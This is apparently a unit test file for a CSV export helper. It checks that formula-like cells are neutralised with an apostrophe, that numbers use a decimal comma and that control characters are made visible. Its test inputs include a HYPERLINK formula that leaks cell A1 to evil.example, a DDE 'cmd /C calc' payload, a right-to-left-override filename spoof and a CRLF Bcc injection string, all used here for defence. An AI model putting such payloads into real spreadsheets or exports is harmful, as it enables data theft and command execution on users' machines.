import { csvCell, toCsv } from './csv';

describe('CSV cells a spreadsheet opens as text, never as a formula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Ver")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['-2+3', "'-2+3"],
  ])('a text starting like a formula (%j) is prefixed with an apostrophe', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('numbers stay numbers, also as text; a number is written with the decimal comma Chilean Excel reads', () => {
    expect(csvCell(-33.45)).toBe('-33,45');
    expect(csvCell(72.2)).toBe('72,2');
    expect(csvCell(1240)).toBe('1240');
    expect(csvCell('-33.45')).toBe('-33.45');
    expect(csvCell('1,5')).toBe('1,5');
    expect(csvCell('-')).toBe('-');
  });

  it('ordinary text is unchanged, quoted only when it holds ; or "', () => {
    expect(csvCell('Juan Pérez')).toBe('Juan Pérez');
    expect(csvCell('a;b')).toBe('"a;b"');
  });

  it.each([
    ['Ana\r\nBcc: x@y.cl', 'Ana␍␊Bcc: x@y.cl'],
    ['\tTab', '␉Tab'],
    ['\r=1', '␍=1'],
    ['factura\u202Efdp.exe', 'factura[U+202E]fdp.exe'],
    ['uno\u2028dos\u0085tres', 'uno[U+2028]dos[U+0085]tres'],
  ])('control characters an older row holds (%j) are drawn, never a line or a reversal: every row stays one line', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
    expect(toCsv(['Nombre'], [[value]]).split('\r\n')).toEqual(['\uFEFFNombre', expected, '']);
  });

  it('a whole file has the BOM, ; separators and CRLF', () => {
    expect(toCsv(['Conductor', 'Km'], [['=1+1', 12]])).toBe("\uFEFFConductor;Km\r\n'=1+1;12\r\n");
  });
});
